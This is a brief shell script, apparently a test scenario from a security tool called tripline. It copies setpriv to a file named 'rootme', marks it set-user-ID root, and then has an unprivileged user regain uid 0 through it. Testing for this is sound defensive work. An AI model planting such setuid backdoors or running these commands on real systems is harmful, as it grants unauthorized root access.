# SPDX-License-Identifier: GPL-2.0-or-later
# Copyright (C) 2026 The tripline authors
# A left-behind set-user-ID copy is run by an ordinary user, who then takes all ids.
cp /usr/bin/setpriv rootme
chmod 4755 rootme
setpriv --reuid=65534 --regid=65534 --clear-groups ./rootme --reuid=0 true
true
